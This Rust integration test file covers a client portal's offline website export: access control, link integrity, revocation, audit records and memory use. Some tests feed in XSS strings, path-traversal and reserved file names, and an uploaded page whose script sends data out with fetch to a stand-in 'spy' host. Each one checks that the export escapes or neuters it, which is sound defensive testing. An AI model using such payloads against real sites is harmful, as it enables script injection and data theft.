//! A portal as a website that opens without a server.

use std::{
    collections::{BTreeMap, BTreeSet},
    thread,
    time::Duration,
};

use crate::{
    archives::unpacked,
    on_both,
    steps::{new_portal, note_form, share, upload_form, wait_for_the_queue},
    world::{Line, Page, Person, Upload, World},
};

on_both! {
    every_link_of_a_copy_leads_to_what_is_in_it,
    p10_a_clients_copy_holds_nothing_of_anybody_elses,
    staff_get_what_they_see_or_what_a_client_sees,
    p11_a_copy_is_for_whom_the_portal_is,
    p12_after_a_revocation_there_is_no_copy,
    p14_papers_of_the_project_come_along,
    t11_names_in_a_copy_lead_nowhere,
    t18_every_copy_is_recorded,
    what_is_typed_is_text_on_every_page,
    a_copy_on_its_way_waits_for_its_reader,
    p12_a_copy_on_its_way_ends_with_the_grant,
    t11_what_a_stranger_wrote_runs_beside_nothing,
}

type Files = BTreeMap<String, Vec<u8>>;

/// The same portal for clients.
fn of_clients(portal: &Page) -> String {
    portal.path().replacen("/staff", "", 1)
}

#[track_caller]
fn copy(person: &Person, portal: &str) -> Files {
    let files = unpacked(&person.get(&format!("{portal}/offline/download")));
    assert!(files.contains_key("index.html") && files.contains_key("search.html"), "{:?}", files.keys());
    files
}

/// As the client of this name sees it.
#[track_caller]
fn copy_as(staff: &Person, portal: &Page, name: &str) -> Files {
    let dialog = staff.visit(portal.path()).press("Download as a website");
    let names = dialog.texts("select[name=as] option");
    let place =
        names.iter().position(|each| each.contains(name)).unwrap_or_else(|| panic!("{name}: {names:?}"));
    let client = &dialog.attributes("select[name=as] option", "value")[place];
    unpacked(&staff.get(&format!("{}/offline/download?as={client}", portal.path())))
}

fn holds(files: &Files, words: &str) -> bool {
    files.iter().any(|(path, bytes)| path.contains(words) || String::from_utf8_lossy(bytes).contains(words))
}

fn pages(files: &Files) -> impl Iterator<Item = (&String, String)> {
    let are_pages = files.iter().filter(|(path, _)| path.ends_with(".html"));
    are_pages.map(|(path, bytes)| (path, String::from_utf8(bytes.clone()).unwrap()))
}

/// What a page loads or leads to.
fn addresses(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    for name in [" href=\"", " src=\""] {
        let values = page.split(name).skip(1).filter_map(|rest| rest.split('"').next());
        found.extend(values.map(|value| value.replace("&amp;", "&")));
    }
    found
}

/// RFC 3986, section 2.1.
fn decoded(address: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = address.bytes();
    while let Some(byte) = rest.next() {
        bytes.push(match byte {
            b'%' => {
                let digits = [rest.next().unwrap(), rest.next().unwrap()];
                u8::from_str_radix(std::str::from_utf8(&digits).unwrap(), 16).unwrap()
            }
            byte => byte,
        });
    }
    String::from_utf8(bytes).unwrap()
}

/// With where each of them leads.
#[track_caller]
fn assert_whole(files: &Files, typed: &[&str]) {
    let mut reached = BTreeSet::new();
    for (path, page) in pages(files) {
        assert!(page.contains("default-src 'none'"), "{path} has no policy");
        for address in addresses(&page) {
            if typed.contains(&address.as_str()) {
                continue;
            }
            assert!(!address.contains(':') && !address.starts_with('/'), "{path} leads to {address}");
            let target = match (address.strip_prefix("../"), path.split_once('/')) {
                (Some(up), Some(_)) => up.to_owned(),
                (None, Some((folder, _))) => format!("{folder}/{address}"),
                (_, None) => address.clone(),
            };
            let target = decoded(&target);
            assert!(files.contains_key(&target), "{path} leads to {target}: {:?}", files.keys());
            reached.insert(target);
        }
    }
    let all: BTreeSet<String> = files.keys().cloned().collect();
    let lost: Vec<_> = all.difference(&reached).collect();
    assert!(lost.is_empty(), "nothing leads to {lost:?}");
}

fn write(person: &Person, portal: &str, words: &str) {
    let file = Upload::text("beside.txt", "what lies beside");
    person.upload(&format!("{portal}/messages"), &[("message", words)], vec![("files", file)]);
}

/// Carol and Cyril have it.
fn lighthouse(world: &World) -> Page {
    let ada = world.ada();
    let portal = new_portal(&ada, "Lighthouse");
    note_form(&portal, "Keeper’s plan", "The **lamp** is lit, see [there](https://typed.example/way).")
        .submit();
    upload_form(&portal, [Upload::text("Tide tables.txt", "high and low")]).submit();
    share(&portal, "carol@acme.test");
    share(&portal, "cyril@acme.test");
    ada.visit(portal.path())
}

fn every_link_of_a_copy_leads_to_what_is_in_it(world: World) {
    let portal = lighthouse(&world);
    write(&world.carol(), &of_clients(&portal), "The stairs are steep");
    let typed = ["https://typed.example/way"];
    let of_carol = copy(&world.carol(), &of_clients(&portal));
    assert_whole(&of_carol, &typed);
    assert!(holds(&of_carol, "The stairs are steep") && holds(&of_carol, "what lies beside"));
    assert_eq!(of_carol["files/Tide tables.txt"], b"high and low");
    assert!(String::from_utf8_lossy(&of_carol["notes/Keeper’s plan.html"]).contains("<strong>lamp</strong>"));
    assert!(String::from_utf8_lossy(&of_carol["search/1.js"]).contains("The lamp is lit"));
    assert_whole(&copy(&world.ada(), portal.path()), &typed);
    assert_whole(&copy(&world.ada(), new_portal(&world.ada(), "Nothing yet").path()), &[]);
}

fn p10_a_clients_copy_holds_nothing_of_anybody_elses(world: World) {
    let (ada, portal) = (world.ada(), lighthouse(&world));
    write(&world.cyril(), &of_clients(&portal), "Quokka, says one");
    write(&world.carol(), &of_clients(&portal), "Numbat, says another");
    let hidden = new_portal(&ada, "Elsewhere");
    note_form(&hidden, "Bandicoot", "kept from everybody").submit();
    let deleted =
        upload_form(&ada.visit(portal.path()), [Upload::text("Wombat.txt", "gone")]).submit().follow();
    let item = ada.visit(portal.path());
    let names = item.texts("#items .row-name");
    let place = names.iter().position(|name| name == "Wombat.txt").unwrap_or_else(|| panic!("{names:?}"));
    let item = item.attributes("#items .select-box", "value")[place].clone();
    ada.post(&format!("/staff/items/{item}/deletion"), &[]);
    deleted.assert_ok();
    let of_carol = copy(&world.carol(), &of_clients(&portal));
    assert!(holds(&of_carol, "Numbat"));
    for canary in ["Quokka", "Cyril", "Bandicoot", "kept from everybody", "Wombat", "@acme.test"] {
        assert!(!holds(&of_carol, canary), "{canary}");
    }
    let of_staff = copy(&ada, portal.path());
    assert!(holds(&of_staff, "Quokka") && holds(&of_staff, "Numbat"));
    assert!(!holds(&of_staff, "Bandicoot") && !holds(&of_staff, "Wombat"));
}

fn staff_get_what_they_see_or_what_a_client_sees(world: World) {
    let portal = lighthouse(&world);
    write(&world.cyril(), &of_clients(&portal), "Quokka, says one");
    write(&world.carol(), &of_clients(&portal), "Numbat, says another");
    let of_carol = copy_as(&world.ada(), &portal, "Carol");
    assert!(holds(&of_carol, "Numbat") && !holds(&of_carol, "Quokka"));
    let (own, seen) = (copy(&world.carol(), &of_clients(&portal)), of_carol);
    assert_eq!(own.keys().collect::<Vec<_>>(), seen.keys().collect::<Vec<_>>());
    assert_eq!(own["index.html"], seen["index.html"], "the same page, whoever asks for it");
}

fn p11_a_copy_is_for_whom_the_portal_is(world: World) {
    let portal = lighthouse(&world);
    let (staff, client) = (format!("{}/offline", portal.path()), of_clients(&portal));
    world.eve().get(&staff).assert_not_found();
    world.eve().get(&format!("{staff}/download")).assert_not_found();
    world.dora().get(&format!("{client}/offline/download")).assert_not_found();
    // Dora is a client, and not of this portal; the last two are nobody.
    let dora = world.ada().visit("/staff/clients").link("Dora Lindt");
    let dora = dora.rsplit('/').next().unwrap().to_owned();
    for nobody in [dora.as_str(), "00000000-0000-7000-8000-000000000000", "carol"] {
        world.ada().get(&format!("{staff}/download?as={nobody}")).assert_not_found();
    }
}

fn p12_after_a_revocation_there_is_no_copy(world: World) {
    let portal = lighthouse(&world);
    let (carol, address) = (world.carol(), format!("{}/offline/download", of_clients(&portal)));
    carol.get(&address).assert_ok();
    let dialog = world.ada().visit(portal.path()).press("Download as a website");
    assert_eq!(dialog.count("select[name=as] option"), 3);
    world.ada().visit(portal.path()).row("carol@acme.test").press("Revoke").assert_ok();
    carol.get(&address).assert_not_found();
    let dialog = world.ada().visit(portal.path()).press("Download as a website");
    assert_eq!(dialog.count("select[name=as] option"), 2);
}

fn p14_papers_of_the_project_come_along(world: World) {
    let carol = world.carol();
    let portal = carol.visit("/").press("Acme website relaunch");
    let files = copy(&carol, portal.path());
    let papers: Vec<_> = files.iter().filter(|(path, _)| path.starts_with("papers/")).collect();
    assert!(!papers.is_empty(), "{:?}", files.keys());
    assert!(papers.iter().all(|(path, bytes)| path.ends_with(".pdf") && bytes.starts_with(b"%PDF-")));
    assert!(String::from_utf8_lossy(&files["index.html"]).contains("milestone-track"));
    assert!(!copy(&world.ada(), lighthouse(&world).path()).keys().any(|path| path.starts_with("papers/")));
}

fn t11_names_in_a_copy_lead_nowhere(world: World) {
    let (ada, portal) = (world.ada(), new_portal(&world.ada(), "Names"));
    let address = upload_form(&portal, []).path().to_owned();
    let long = format!("{}.txt", "n".repeat(180));
    let names = ["CON.txt", "same.txt", "SAME.txt", "in\u{202e}txt.exe", "100 % #1 ?.txt", long.as_str()];
    for name in names {
        let file = Upload::new(name, "application/octet-stream", name);
        ada.upload(&address, &[("path", name)], vec![("file", file)]);
    }
    let long = "long ".repeat(30);
    for title in ["..", "CON", "../../up", "<script>alert(1)</script>", "a\"b", long.as_str()] {
        note_form(&ada.visit(portal.path()), title, "words").submit();
    }
    let files = copy(&ada, portal.path());
    assert_whole(&files, &[]);
    let lower: BTreeSet<String> = files.keys().map(|path| path.to_lowercase()).collect();
    assert_eq!(lower.len(), files.len());
    for path in files.keys() {
        let parts: Vec<&str> = path.split('/').collect();
        assert!(parts.len() <= 2 && path.len() <= 180, "{path}");
        let is_harmless = |part: &&str| {
            let stem = part.split('.').next().unwrap();
            !part.starts_with('.')
                && !stem.eq_ignore_ascii_case("con")
                && !part.contains(['\\', ':', '?', '<', '\u{202e}'])
        };
        assert!(parts.iter().all(is_harmless), "{path}");
    }
    for (path, page) in pages(&files) {
        assert!(!page.contains("<script>"), "{path}");
    }
}

fn what_is_typed_is_text_on_every_page(world: World) {
    let portal = new_portal(&world.ada(), "<b>Bold</b> & \"quoted\"");
    note_form(&portal, "A", "</script><script>alert(1)</script><img src=x onerror=alert(1)>").submit();
    let files = copy(&world.ada(), portal.path());
    assert_whole(&files, &[]);
    for (path, page) in pages(&files) {
        assert!(
            !page.contains("<script>") && !page.contains("<img src=x") && !page.contains("<b>Bold"),
            "{path}"
        );
    }
}

fn t18_every_copy_is_recorded(world: World) {
    let portal = lighthouse(&world);
    wait_for_the_queue(&world);
    const MOVING: &[&str] = &["cursors.*", "jobs.*", "sessions.*"];
    let copies = || {
        let all = "SELECT kind AS row FROM events WHERE kind = 'portal.copied'";
        world.database().texts(all, all).len()
    };
    let carol = world.carol();
    let before = world.database().snapshot(MOVING);
    carol.head(&format!("{}/offline/download", of_clients(&portal)));
    if let Some(change) = before.changes_until(&world.database().snapshot(MOVING)) {
        panic!("HEAD left {change}");
    }
    assert_eq!(copies(), 0);
    copy(&carol, &of_clients(&portal));
    assert_eq!(copies(), 1);
    copy(&world.ada(), portal.path());
    copy_as(&world.ada(), &portal, "Cyril");
    assert_eq!(copies(), 3);
    world.ada().visit("/staff/settings/audit").assert_shows("Downloaded a portal as a website");
}

/// More than the buffers of a connection hold, so that the rest waits for its reader.
const LARGE: usize = 24 << 20;

/// In KiB: what the server's own memory comes to.
fn memory(world: &World) -> usize {
    let status = format!("/proc/{}/status", world.server().process_id());
    let status = std::fs::read_to_string(status).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

/// Three large files.
fn films(world: &World) -> Page {
    let ada = world.ada();
    let portal = new_portal(&ada, "Films");
    let address = upload_form(&portal, []).path().to_owned();
    for name in ["one.mp4", "two.mp4", "three.mp4"] {
        let file = Upload::new(name, "application/octet-stream", vec![7; LARGE]);
        ada.upload(&address, &[("path", name)], vec![("file", file)]);
    }
    wait_for_the_queue(world);
    portal
}

/// A download of which the head has come.
fn begun(person: &Person, portal: &str) -> Line {
    let mut download = Line::open(person);
    let asked = format!("GET {portal}/offline/download");
    download.send(Line::head(person, &asked, "Connection: close\r\n")).unwrap();
    download.hear_head().unwrap();
    download
}

fn a_copy_on_its_way_waits_for_its_reader(world: World) {
    let portal = films(&world);
    let ada = world.ada();
    let before = memory(&world);
    let mut download = begun(&ada, portal.path());
    // Whoever does not wait holds all of it by now.
    thread::sleep(Duration::from_secs(2));
    let grown = memory(&world).saturating_sub(before);
    assert!(grown < LARGE / 1024, "{grown} KiB more");
    let came = download.hear_all().unwrap().len();
    assert!(came > 3 * LARGE, "{came} bytes came");
}

fn p12_a_copy_on_its_way_ends_with_the_grant(world: World) {
    let portal = films(&world);
    share(&portal, "carol@acme.test");
    let mut download = begun(&world.carol(), &of_clients(&portal));
    world.ada().visit(portal.path()).row("carol@acme.test").press("Revoke").assert_ok();
    // Broken off within an answer, a line may end in an error as well.
    let came = download.hear_all().unwrap_or_default().len();
    assert!(came < 2 * LARGE, "{came} bytes came");
}

/// Any page in the folder may load the scripts that hold the words of all conversations.
fn t11_what_a_stranger_wrote_runs_beside_nothing(world: World) {
    let portal = lighthouse(&world);
    for name in ["Spy.html", "spy.SVG", "spy.xhtml"] {
        let script = "<script src=\"../search/1.js\"></script><script>fetch('https://spy.example')</script>";
        upload_form(&world.ada().visit(portal.path()), [Upload::text(name, script)]).submit();
    }
    let files = copy(&world.ada(), portal.path());
    assert!(files.contains_key("files/Spy.html.txt"), "{:?}", files.keys());
    let theirs = files.keys().filter(|path| path.starts_with("files/"));
    let run: Vec<_> = theirs.filter(|path| !path.ends_with(".txt")).collect();
    assert!(run.is_empty(), "{run:?}");
}
